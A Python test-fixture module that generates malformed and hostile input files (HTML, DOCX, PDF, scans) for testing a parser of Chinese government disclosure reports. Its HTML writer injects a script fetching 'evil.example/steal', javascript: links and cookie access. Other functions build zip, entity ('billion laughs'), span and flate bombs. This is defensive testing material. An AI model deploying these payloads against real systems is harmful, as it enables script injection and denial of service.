"""Bad and awkward input files, generated on the fly (nothing large is committed).

Every writer takes the target path and returns it. Good variants derive from the bundled Jiangjing 2020
report (tab-separated tables): `variant()` renames the agency so that a variant never collides with the
bundled report, and can drop a table, drop a row or rewrite cells.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zipfile
from pathlib import Path

from conftest import BUNDLED

BASE = BUNDLED / "jiangjing-2020.txt"
BASE_AGENCY = "福清市江镜镇人民政府"
NOTICE = """关于做好2023年度政府信息公开工作年度报告编制发布工作的通知

各乡镇人民政府，县直各单位：
根据《中华人民共和国政府信息公开条例》规定，现就做好2023年度政府信息公开工作年度报告（以下简称年度报告）
编制和发布工作通知如下：
一、各单位要按照国务院办公厅印发的年度报告格式编制年度报告，如实反映主动公开、依申请公开等工作情况。
二、年度报告须于2024年1月31日前在本单位政府信息公开专栏发布。
三、请各单位指定专人负责，联系电话：0000-1234567。
特此通知。
县政务公开办公室
2024年1月5日
"""
NOVEL = """第一回　宴桃园豪杰三结义　斩黄巾英雄首立功

话说天下大势，分久必合，合久必分。周末七国分争，并入于秦。及秦灭之后，楚、汉分争，又并入于汉。
汉朝自高祖斩白蛇而起义，一统天下，后来光武中兴，传至献帝，遂分为三国。推其致乱之由，殆始于桓、灵二帝。
桓帝禁锢善类，崇信宦官。及桓帝崩，灵帝即位，大将军窦武、太傅陈蕃共相辅佐。时有宦官曹节等弄权，
窦武、陈蕃谋诛之，机事不密，反为所害，中涓自此愈横。
""" * 3


def base_text() -> str:
    return BASE.read_text(encoding="utf-8")


def variant(agency: str = "福清市测试镇人民政府", drop_table: str | None = None, drop_row: str | None = None,
            cells: dict[str, str] | None = None, year: int | None = None) -> str:
    """Return the Jiangjing report text under another agency, optionally without a table or a row.

    drop_table: "table3" removes section 三's table; drop_row: a row label prefix to delete;
    cells: {row label prefix: replacement for that row's first number cell (自然人 in table 3)}.
    """
    text = base_text().replace(BASE_AGENCY, agency).replace("江镜镇", agency.replace("福清市", "").replace("人民政府", ""))
    if year is not None:
        text = text.replace("2020", str(year))
    lines = text.split("\n")
    if drop_table == "table3":
        a = next(i for i, ln in enumerate(lines) if ln.startswith("三、收到和处理"))
        b = next(i for i, ln in enumerate(lines) if ln.startswith("四、政府信息公开行政复议"))
        lines = lines[:a + 1] + ["本年度申请情况详见附件。"] + lines[b:]
    if drop_row:
        lines = [ln for ln in lines if _row_of(ln, drop_row) is None]
    for prefix, new in (cells or {}).items():
        for i, ln in enumerate(lines):
            parts = ln.split("\t")
            label = _row_of(ln, prefix)
            if label is not None:
                nums = [k for k, c in enumerate(parts) if k > label and re.fullmatch(r"\d+", c.strip())]
                j = nums[-7] if len(nums) >= 7 else nums[0]  # table 3: the 自然人 column of seven
                parts[j] = new
                lines[i] = "\t".join(parts)
                break
        else:
            raise AssertionError(f"no row {prefix!r}")
    return "\n".join(lines)


def _row_of(line: str, prefix: str) -> int | None:
    """Return the index of the table cell starting with prefix in a tab-separated line, else None."""
    if "\t" not in line:
        return None
    return next((k for k, c in enumerate(line.split("\t")) if c.strip().startswith(prefix)), None)


# ---------------------------------------------------------------- text encodings, binary

def write_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    data = text.encode("utf-8-sig" if encoding == "utf-8-bom" else encoding)
    path.write_bytes(data)
    return path


def binary_txt(path: Path) -> Path:
    """A PNG-like binary blob named .txt."""
    rnd = hashlib.sha256(b"zoo").digest() * 512
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rnd)
    return path


# ---------------------------------------------------------------- HTML and DOCX from the tab-separated text

def _blocks(text: str):
    """Yield ("p", line) and ("table", rows) from a report whose tables are tab-separated lines."""
    rows: list[list[str]] = []
    for ln in text.split("\n"):
        if "\t" in ln:
            rows.append(ln.split("\t"))
            continue
        if rows and not ln.strip():
            continue  # a blank line inside a table (a row broken across lines) keeps the table open
        if rows:
            yield "table", rows
            rows = []
        if ln.strip():
            yield "p", ln
    if rows:
        yield "table", rows


EVIL_HTML_HEAD = ('<head><title>x</title><script>window.__pwned=1;fetch("http://evil.example/steal")</script>'
                  '<style>p{color:red}</style></head>')


def html_report(path: Path, text: str, evil: bool = True) -> Path:
    """Write the report as an HTML page; with evil=True add <script>, event handlers and javascript: links."""
    from html import escape

    out = ["<!DOCTYPE html><html>", EVIL_HTML_HEAD if evil else "<head><title>x</title></head>", "<body>"]
    if evil:
        out.append('<div onclick="window.__pwned=2"><a href="javascript:alert(1)">点击查看原文</a></div>')
        out.append('<img src="x" onerror="window.__pwned=3"><script>document.write("注入的文字")</script>')
    for kind, val in _blocks(text):
        if kind == "p":
            extra = ' onmouseover="window.__pwned=4"' if evil and val.startswith("五、") else ""
            out.append(f"<p{extra}>{escape(val)}</p>")
        else:
            out.append("<table>" + "".join("<tr>" + "".join(f"<td>{escape(c)}</td>" for c in r) + "</tr>"
                                           for r in val) + "</table>")
    if evil:
        out.append('<p>联系方式：<a href="javascript:void(document.cookie)" onclick="steal()">政务公开办</a></p>')
        out.append("<noscript>请启用脚本</noscript><iframe src=\"javascript:alert(5)\"></iframe>")
    out.append("</body></html>")
    path.write_text("\n".join(out), encoding="utf-8")
    return path


def span_bomb_html(path: Path, text: str) -> Path:
    """The report as HTML with one extra row holding a cell of rowspan=100000 colspan=100000 in each table."""
    html_report(path, text, evil=False)
    page = path.read_text(encoding="utf-8")
    path.write_text(page.replace("<table>", '<table><tr><td rowspan="100000" colspan="100000">x</td></tr>'),
                    encoding="utf-8")
    return path


def nested_html(path: Path, text: str, depth: int = 100_000) -> Path:
    """The report as HTML with `depth` nested <div> elements before it."""
    html_report(path, text, evil=False)
    page = path.read_text(encoding="utf-8")
    path.write_text(page.replace("<body>", "<body>" + "<div>" * depth + "深" + "</div>" * depth, 1), encoding="utf-8")
    return path


def table_bomb_html(path: Path, rows: int = 200) -> Path:
    """A page whose one table has `rows` rows of colspan=1000 cells (200,000 cells once expanded)."""
    body = "".join('<tr><td colspan="1000">0</td></tr>' for _ in range(rows))
    path.write_text(f"<html><body><p>政府信息公开工作年度报告</p><table>{body}</table></body></html>", encoding="utf-8")
    return path


def docx_report(path: Path, text: str) -> Path:
    """Write the report as DOCX with its tables' header cells merged across and row labels merged down."""
    import docx

    d = docx.Document()
    for kind, val in _blocks(text):
        if kind == "p":
            d.add_paragraph(val)
            continue
        width = max(len(r) for r in val)
        rows = [r + [""] * (width - len(r)) for r in val]
        t = d.add_table(rows=len(rows), cols=width)
        for i, r in enumerate(rows):
            for j, c in enumerate(r):
                t.cell(i, j).text = c
        numeric = [any(re.fullmatch(r"\d+", c.strip()) for c in r) for r in rows]
        for i, r in enumerate(rows):
            if numeric[i]:
                continue
            j = 0
            while j < width:  # a header cell followed by empty cells spans them
                k = j + 1
                while k < width and not r[k].strip() and r[j].strip():
                    k += 1
                if k - j > 1:
                    t.cell(i, j).merge(t.cell(i, k - 1))
                j = k
        for j in (0,):  # a row label followed by rows with an empty first cell spans them
            i = 0
            while i < len(rows):
                k = i + 1
                while k < len(rows) and numeric[k] and not rows[k][j].strip() and rows[i][j].strip() and numeric[i]:
                    k += 1
                if k - i > 1:
                    t.cell(i, j).merge(t.cell(k - 1, j))
                i = k
    d.save(str(path))
    return path


def span_bomb_docx(path: Path, text: str) -> Path:
    """The report as DOCX whose first table cell declares gridSpan=200000000 (the file stays ~10 KB)."""
    docx_report(path, text)
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    xml = src.read("word/document.xml").decode("utf-8")
    xml = xml.replace("<w:tc>", '<w:tc><w:tcPr><w:gridSpan w:val="200000000"/></w:tcPr>', 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item, xml if item.filename == "word/document.xml" else src.read(item.filename))
    return path


def zip_bomb_docx(path: Path, unpacked_mb: int = 300) -> Path:
    """A .docx whose document.xml inflates to `unpacked_mb` MB (a few hundred KB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                          'package/2006/content-types"/>')
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            block = b" " * 2**20
            for _ in range(unpacked_mb):
                f.write(block)
    return path


def entity_bomb_docx(path: Path) -> Path:
    """A small .docx whose document.xml is a "billion laughs" entity expansion."""
    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    ents = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE w:document [{ents}]>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            '<w:t>政府信息公开工作年度报告 &a9;</w:t></w:r></w:p></w:body></w:document>')
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item, bomb if item.filename == "word/document.xml" else src.read(item.filename))
    return path


# ---------------------------------------------------------------- PDFs

_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for b in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


def _pdf(objs: list[bytes], trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, trailer, xref)
    return bytes(out)


def text_pdf(path: Path, lines: list[str] | None = None) -> Path:
    """A one-page PDF with an ASCII text layer (enough to be a real, parseable PDF)."""
    lines = lines or ["Government information disclosure annual report"] * 40
    content = "BT /F1 11 Tf 50 780 Td 14 TL " + " ".join(f"({ln}) '" for ln in lines) + " ET"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
             b"/Resources << /Font << /F1 5 0 R >> >> >>"),
            b"<< /Length %d >>\nstream\n" % len(content) + content.encode() + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    path.write_bytes(_pdf(objs))
    return path


def many_pages_pdf(path: Path, pages: int, lines: int = 15) -> Path:
    """A PDF of `pages` pages, each with `lines` lines of (ASCII) text: one shared content stream."""
    text = [f"Annual report page text, line {i}: 0123456789 0123456789 0123456789" for i in range(lines)]
    content = ("BT /F1 11 Tf 50 780 Td 14 TL " + " ".join(f"({ln}) '" for ln in text) + " ET").encode()
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>")
    objs += [page] * pages
    path.write_bytes(_pdf(objs))
    return path


def flate_bomb_pdf(path: Path, inflated_mb: int = 300) -> Path:
    """A ~300 KB one-page PDF whose content stream inflates to `inflated_mb` MB (of spaces)."""
    import zlib

    z = zlib.compressobj(9)
    parts = [z.compress(b"BT /F1 11 Tf 50 780 Td (Annual report) Tj ET\n")]
    block = b" " * 2**20
    parts += [z.compress(block) for _ in range(inflated_mb)]
    content = b"".join(parts) + z.flush()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
             b"/Resources << /Font << /F1 5 0 R >> >> >>"),
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    path.write_bytes(_pdf(objs))
    return path


def encrypted_pdf(path: Path, user: bytes = b"secret", owner: bytes = b"owner") -> Path:
    """A PDF under the standard security handler (RC4, revision 2) that needs a user password to open."""
    fid = hashlib.md5(b"gongkai-test").digest()
    perms = -44
    o_entry = _rc4(hashlib.md5((owner + _PAD)[:32]).digest()[:5], (user + _PAD)[:32])
    key = hashlib.md5((user + _PAD)[:32] + o_entry + struct.pack("<i", perms) + fid).digest()[:5]
    u_entry = _rc4(key, _PAD)
    obj_key = hashlib.md5(key + struct.pack("<I", 4)[:3] + b"\0\0").digest()[:10]
    content = _rc4(obj_key, b"BT /F1 24 Tf 72 720 Td (Government information disclosure annual report) Tj ET")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
             b"/Resources << /Font << /F1 5 0 R >> >> >>"),
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (o_entry.hex().encode(),
                                                                        u_entry.hex().encode(), perms)]
    path.write_bytes(_pdf(objs, b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (fid.hex().encode(), fid.hex().encode())))
    return path


def image_pdf(path: Path, pages: int = 1, source: Path | None = None) -> Path:
    """An image-only PDF (no text layer): page 1 of `source` rendered to pixels, or drawn lines of 'text'."""
    from PIL import Image, ImageDraw

    if source is not None:
        import pypdfium2 as pdfium

        doc = pdfium.PdfDocument(str(source))
        img = doc[0].render(scale=1).to_pil().convert("L")
        doc.close()
    else:
        img = Image.new("L", (595, 842), 255)
        draw = ImageDraw.Draw(img)
        for y in range(60, 800, 18):
            draw.rectangle((50, y, 50 + (y * 37) % 480, y + 8), fill=0)
    if pages == 1:
        img.save(path, "PDF", resolution=72)
    else:
        small = img.resize((60, 84))
        small.save(path, "PDF", resolution=72, save_all=True, append_images=[small] * (pages - 1))
    return path


def truncated(path: Path, source: Path, fraction: float = 0.5) -> Path:
    data = source.read_bytes()
    path.write_bytes(data[: int(len(data) * fraction)])
    return path


def oversized(path: Path, mb: int) -> Path:
    """A sparse file of `mb` MB starting like a PDF (no disk space used)."""
    with open(path, "wb") as f:
        f.write(b"%PDF-1.4\n")
        f.truncate(mb * 2**20)
    return path


# ---------------------------------------------------------------- scans (OCR)

def cjk_font(size: int):
    """A CJK font for drawing test pages (Debian's fonts-noto-cjk), or None."""
    import subprocess

    from PIL import ImageFont

    try:
        path = subprocess.run(["fc-match", "-f", "%{file}", "Noto Sans CJK SC"], capture_output=True, text=True,
                              timeout=20, check=False).stdout.strip()
    except OSError:
        path = ""
    for p in (path, "/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"):
        if p and Path(p).is_file() and ("CJK" in p or "cjk" in p):
            return ImageFont.truetype(p, size)
    return None


def synth_report_pdf(folder: Path, number: int = 3, seed: int = 11):
    """A synthetic report in the national template as a PDF with a text layer; returns (path, gold dict)."""
    from eval import synth

    s = synth.make(number, seed, 0.0, set())
    return synth.write(s, "pdf", folder), synth.gold(s, "pdf")


def raster(pdf: Path, dpi: int = 200, angle: float = 0.0, noise: float = 0.0, seed: int = 0) -> list:
    """The pages of a PDF as grey PIL images, as a scanner gives them: turned by `angle` degrees, with grain."""
    import numpy as np
    import pypdfium2 as pdfium
    from PIL import Image

    doc = pdfium.PdfDocument(str(pdf))
    pages = []
    for i in range(len(doc)):
        img = doc[i].render(scale=dpi / 72, grayscale=True).to_pil().convert("L")
        if angle:
            img = img.rotate(angle, resample=Image.BICUBIC, fillcolor=255)
        if noise:
            arr = np.asarray(img, dtype=np.float32)
            arr = arr + np.random.default_rng(seed + i).normal(0, noise, arr.shape)
            img = Image.fromarray(np.clip(arr, 0, 255).astype(np.uint8))
        pages.append(img)
    doc.close()
    return pages


def image_only_pdf(path: Path, pages: list, dpi: int = 200, quality: int = 75) -> Path:
    """Wrap page images into a PDF with no text layer (JPEG-compressed, like a scanner's)."""
    pages[0].save(path, "PDF", resolution=dpi, save_all=True, append_images=pages[1:], quality=quality)
    return path


def blank_scan(path: Path, dpi: int = 100) -> Path:
    """A scanned blank sheet: paper grain and a faint shadow at one edge, no text."""
    import numpy as np
    from PIL import Image

    w, h = int(8.27 * dpi), int(11.69 * dpi)
    arr = np.random.default_rng(5).normal(245, 4, (h, w))
    arr[:, :6] -= 40
    Image.fromarray(np.clip(arr, 0, 255).astype(np.uint8)).save(path, "PDF", resolution=dpi)
    return path


def upside_down_page(path: Path, source_pdf: Path, dpi: int = 150) -> Path:
    """Page 1 of a report scanned upside down, as PNG (one page: not a whole report)."""
    raster(source_pdf, dpi)[0].rotate(180).save(path)
    return path


def photo_of_notice(path: Path) -> Path:
    """A phone photo (JPEG) of a printed notice about annual reports — not a report: slightly turned, uneven
    light, grain. Needs a CJK font (fonts-noto-cjk)."""
    import numpy as np
    from PIL import Image, ImageDraw

    font = cjk_font(26)
    if font is None:
        raise FileNotFoundError("no CJK font (apt-get install fonts-noto-cjk)")
    img = Image.new("L", (1000, 1300), 250)
    d = ImageDraw.Draw(img)
    y = 80
    for line in NOTICE.split("\n"):
        while line:
            d.text((70, y), line[:32], fill=20, font=font)
            line = line[32:]
            y += 44
        y += 10
    img = img.rotate(2.5, resample=Image.BICUBIC, fillcolor=90)
    arr = np.asarray(img, dtype=np.float32)
    light = np.linspace(1.0, 0.75, arr.shape[1])[None, :]
    arr = arr * light + np.random.default_rng(9).normal(0, 8, arr.shape)
    Image.fromarray(np.clip(arr, 0, 255).astype(np.uint8)).convert("RGB").save(path, "JPEG", quality=70)
    return path
